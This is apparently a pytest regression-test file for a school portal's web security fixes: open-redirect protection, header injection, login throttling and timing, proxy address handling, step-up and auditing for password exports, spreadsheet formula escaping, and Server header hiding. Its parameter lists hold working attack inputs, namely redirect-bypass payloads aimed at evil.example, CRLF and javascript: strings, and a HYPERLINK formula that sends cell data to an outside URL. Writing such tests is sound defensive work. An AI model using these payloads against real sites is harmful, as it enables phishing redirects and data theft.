"""Issue 15, the web findings: each test names its finding and failed on the code before
the fix."""

from __future__ import annotations

from io import BytesIO

import pytest
from argon2 import PasswordHasher
from openpyxl import load_workbook

from portal.core.models import AuditEvent, User

from ..conftest import TEST_PASSWORD
from .test_stepup import stale

# --- #2: a query parameter became the HTTP status -------------------------------------------


@pytest.mark.parametrize("value", ["draft", "draft\r\nX-Injected: 1", "0 draft"])
def test_issue15_2_status_filter_is_a_filter_not_the_http_status(client, login, followup, value):
    login(followup.counselor)
    response = client.get("/plans/", query_string={"status": value})
    assert response.status_code == 200
    assert "X-Injected" not in response.headers
    if value == "draft":  # the filter is applied: its link is the current one
        assert 'status=draft" aria-current="page"' in response.get_data(as_text=True)


def test_issue15_2_no_template_variable_can_become_a_response_argument(app):
    from portal.core.htmx import render

    with app.test_request_context("/"):
        app.jinja_env.globals.setdefault("status", None)
        response = render("error.html", code=418, message="m", status="draft", headers="x")
    assert response.status_code == 200


# --- #5: open redirect ----------------------------------------------------------------------

HOSTILE_NEXT = [
    "/%09/evil.example",
    "/\t/evil.example",
    "/\\evil.example",
    "//evil.example",
    "https://evil.example/",
    "/\r\n/evil.example",
    "java\tscript:alert(1)",
    " //evil.example",
    "/%0d%0aSet-Cookie:x=1",
]


REDIRECT_KIND = "open redirect: hostile next= on log-in, confirm, language"


def _stays_here(location: str) -> bool:
    from urllib.parse import urlsplit

    cleaned = location.replace("\t", "").replace("\r", "").replace("\n", "")
    parts = urlsplit(cleaned.replace("\\", "/"))
    return (
        not parts.netloc.strip("/")
        and parts.netloc in ("", "localhost")
        and (cleaned.startswith("/") and not cleaned.startswith("//"))
    )


@pytest.mark.parametrize("target", HOSTILE_NEXT)
def test_issue15_5_login_next_never_leaves_the_site(client, make, target, tally):
    make.user("R501", role="counselor")
    from urllib.parse import unquote

    response = client.post(
        "/login",
        query_string={"next": unquote(target)},
        data={"username": "R501", "password": TEST_PASSWORD},
    )
    assert response.status_code == 303
    assert _stays_here(response.headers["Location"]), response.headers["Location"]
    tally.update(kind=REDIRECT_KIND, tried=1, refused=1)


def test_issue15_5_login_next_keeps_a_path_on_this_site(client, make):
    make.user("R502", role="counselor")
    response = client.post(
        "/login?next=/students/%3Fq%3D1", data={"username": "R502", "password": TEST_PASSWORD}
    )
    assert response.headers["Location"] == "/students/?q=1"


def test_issue15_5_newline_in_next_is_not_a_500_after_login(client, make):
    make.user("R503", role="counselor")
    response = client.post(
        "/login",
        query_string={"next": "/\n/evil.example"},
        data={"username": "R503", "password": TEST_PASSWORD},
    )
    assert response.status_code == 303 and _stays_here(response.headers["Location"])


@pytest.mark.parametrize("target", HOSTILE_NEXT)
def test_issue15_5_confirm_next_never_leaves_the_site(client, make, login, target, tally):
    from urllib.parse import unquote

    login(make.user(role="counselor"))
    response = client.post(
        "/confirm", query_string={"next": unquote(target)}, data={"password": TEST_PASSWORD}
    )
    assert response.status_code == 303 and _stays_here(response.headers["Location"])
    tally.update(kind=REDIRECT_KIND, tried=1, refused=1)


@pytest.mark.parametrize("target", HOSTILE_NEXT)
def test_issue15_5_language_switch_never_leaves_the_site(client, target, tally):
    from urllib.parse import unquote

    response = client.post("/locale", data={"locale": "en", "next": unquote(target)})
    assert response.status_code == 303 and _stays_here(response.headers["Location"])
    tally.update(kind=REDIRECT_KIND, tried=1, refused=1)


# --- #7: /password was an unlimited guessing oracle -------------------------------------------


def test_issue15_7_change_password_is_throttled_like_log_in(client, make, login, db):
    user = make.user("R701", role="counselor")
    login(user)
    wrong = {
        "current": "not my password",
        "new": "a new long passphrase",
        "confirm": "a new long passphrase",
    }
    for _ in range(5):
        assert client.post("/password", data=wrong).status_code == 422
    right = {**wrong, "current": TEST_PASSWORD}
    response = client.post("/password", data=right)
    assert response.status_code == 429 and "Retry-After" in response.headers
    assert "次数过多" in response.get_data(as_text=True)
    db.session.refresh(user)
    assert user.password_hash == make.user("R702").password_hash  # unchanged (same test hash)


# --- #10: log-in time told whether a name exists ----------------------------------------------


def test_issue15_10_unknown_name_costs_the_same_argon2_work(client, make, monkeypatch):
    make.user("R1001", role="counselor")
    calls = []
    original = PasswordHasher.verify

    def counting(self, hash_, password):
        calls.append(hash_)
        return original(self, hash_, password)

    monkeypatch.setattr(PasswordHasher, "verify", counting)
    client.post("/login", data={"username": "R1001", "password": "wrong guess"})
    client.post("/login", data={"username": "nobody-here", "password": "wrong guess"})
    assert len(calls) == 2
    assert calls[1].startswith("$argon2id$") and calls[0] != calls[1]


# --- the throttle per account, whatever the address -----------------------------------------


def log_in_from(client, address, username, password=TEST_PASSWORD):
    """A log-in attempt sent from `address`."""
    return client.post(
        "/login",
        data={"username": username, "password": password},
        environ_base={"REMOTE_ADDR": address},
    )


def test_issue15_rotating_the_address_does_not_reset_the_account_throttle(app, client, make):
    make.user("R1101", role="counselor")
    limit = app.config["LOGIN_ACCOUNT_MAX_FAILURES"]
    for n in range(limit):
        answer = log_in_from(client, f"10.0.{n // 200}.{n % 200 + 1}", "R1101", "bad")
        assert answer.status_code == 200
    response = log_in_from(client, "192.168.77.77", "R1101")
    assert response.status_code == 429
    page = response.get_data(as_text=True)
    assert "该账号失败次数过多" in page and "之后再试" in page  # the unlock time, in words
    assert int(response.headers["Retry-After"]) > 0
    # another account is not affected
    make.user("R1102", role="counselor")
    assert log_in_from(client, "192.168.77.77", "R1102").status_code == 303


def test_issue15_account_throttle_ends_when_the_window_passes(app, client, make, db):
    from datetime import timedelta

    from portal.core.models import LoginFailure

    make.user("R1103", role="counselor")
    for n in range(app.config["LOGIN_ACCOUNT_MAX_FAILURES"]):
        log_in_from(client, f"10.1.0.{n + 1}", "R1103", "bad")
    for failure in db.session.query(LoginFailure).filter(LoginFailure.key.like("r1103|%")):
        failure.at -= app.config["LOGIN_FAILURE_WINDOW"] + timedelta(seconds=1)
    db.session.commit()
    assert log_in_from(client, "10.1.0.99", "R1103").status_code == 303


# --- TRUSTED_PROXIES --------------------------------------------------------------------------


def _address_seen(config: dict, forwarded: str) -> str:
    from portal import create_app
    from portal.core.access import public

    from ..conftest import TEST_CONFIG

    app = create_app({**TEST_CONFIG, "SQLALCHEMY_DATABASE_URI": "sqlite://", **config})

    @public
    def address():
        from flask import request

        return request.remote_addr

    app.add_url_rule("/_address", "address_probe", address)
    return (
        app.test_client()
        .get(
            "/_address",
            headers={"X-Forwarded-For": forwarded},
            environ_base={"REMOTE_ADDR": "10.0.0.1"},
        )
        .get_data(as_text=True)
    )


def test_issue15_trusted_proxies_give_the_real_client_address():
    assert _address_seen({}, "203.0.113.9") == "10.0.0.1"  # default: no proxy trusted
    assert _address_seen({"TRUSTED_PROXIES": 1}, "203.0.113.9") == "203.0.113.9"
    # one proxy trusted: an address the client wrote itself in front is ignored
    assert _address_seen({"TRUSTED_PROXIES": 1}, "6.6.6.6, 203.0.113.9") == "203.0.113.9"


# --- page= beyond 64 bits, negative or garbage --------------------------------------------------


@pytest.mark.parametrize(
    "page", ["99999999999999999999999", "-1", "0", "abc", "1e9", "18446744073709551617"]
)
def test_issue15_page_out_of_range_is_a_400_never_a_500(client, make, login, page, tally):
    login(make.user(role="admin"))
    response = client.get("/admin/users", query_string={"page": page})
    assert response.status_code == 400
    assert "页码" in response.get_data(as_text=True)
    tally.update(kind="page numbers beyond 64 bits, negative or not a number", tried=1, refused=1)
    assert client.get("/admin/users", query_string={"page": "1"}).status_code == 200


# --- #11: the initial-password workbook ---------------------------------------------------------


def _accounts_setup(make):
    school_class = make.school_class()
    for _ in range(3):
        make.student(school_class)
    secretary = make.user(role="secretary", scope=school_class.major.college)
    return school_class, secretary


def test_issue15_11_initial_passwords_need_step_up(client, make, login, db):
    school_class, secretary = _accounts_setup(make)
    login(secretary)
    stale(client)
    url = f"/students/accounts?class_id={school_class.id}"
    response = client.post(url, headers={"Referer": f"https://localhost{url}"})
    assert response.status_code == 303 and "/confirm?next=" in response.headers["Location"]
    assert db.session.query(User).filter(User.student_id.is_not(None)).count() == 0


def test_issue15_11_initial_passwords_are_audited_with_their_count(client, make, login, db):
    school_class, secretary = _accounts_setup(make)
    login(secretary)
    response = client.post(f"/students/accounts?class_id={school_class.id}")
    assert response.status_code == 200
    rows = list(load_workbook(BytesIO(response.data)).active.iter_rows(values_only=True))
    assert len(rows) == 4
    event = db.session.query(AuditEvent).filter_by(action="initial_passwords").one()
    assert event.detail.startswith("rows=3 ") and event.user_id == secretary.id


def test_issue15_11_initial_passwords_count_toward_the_export_limit(app, client, make, login, db):
    from portal.core.export import SLOT
    from portal.core.models.base import utcnow

    school_class, secretary = _accounts_setup(make)
    login(secretary)
    for _ in range(app.config["EXPORT_LIMIT"]):
        db.session.add(AuditEvent(at=utcnow(), action=SLOT, user_id=secretary.id))
    db.session.commit()
    response = client.post(f"/students/accounts?class_id={school_class.id}")
    assert response.status_code == 429
    assert db.session.query(User).filter(User.student_id.is_not(None)).count() == 0


# --- formula injection in every xlsx --------------------------------------------------------


def test_issue15_export_cells_that_start_a_formula_get_a_quote(app):
    from portal.core.export import Sheet, workbook_bytes

    values = [
        '=HYPERLINK("http://x/?"&A2,"点此")',
        "+1+2",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "-",
        "-5",
        "+86",
        "张三",
        "a=b",
        "名字\x07",
    ]
    with app.app_context():
        book = workbook_bytes([Sheet("t", ["v"], [[v] for v in values])])
    cells = [row[0] for row in load_workbook(book).active.iter_rows(min_row=2, values_only=True)]
    assert cells[4].startswith("'\t") and cells[5].startswith("'")  # tab, CR kept after the '
    assert cells[:4] + cells[6:] == [
        '\'=HYPERLINK("http://x/?"&A2,"点此")',
        "'+1+2",
        "'-2+3",
        "'@SUM(A1)",
        "-",
        "-5",
        "+86",
        "张三",
        "a=b",
        "名字",
    ]


# --- Server header ----------------------------------------------------------------------------


def test_issue15_server_header_names_no_framework(client):
    for response in (client.get("/login"), client.get("/no-such-page")):
        server = response.headers.get("Server", "")
        assert server == "portal"
        assert "werkzeug" not in server.lower() and "gunicorn" not in server.lower()


def test_issue15_gunicorn_names_the_portal_not_itself():
    """gunicorn drops the application's own Server header and writes its name: its settings
    file makes that line the portal's."""
    import runpy
    from pathlib import Path

    from gunicorn.http import wsgi

    before = wsgi.SERVER
    try:
        runpy.run_path(str(Path(__file__).resolve().parents[2] / "gunicorn.conf.py"))
        assert wsgi.SERVER == "portal"
    finally:
        wsgi.SERVER = before
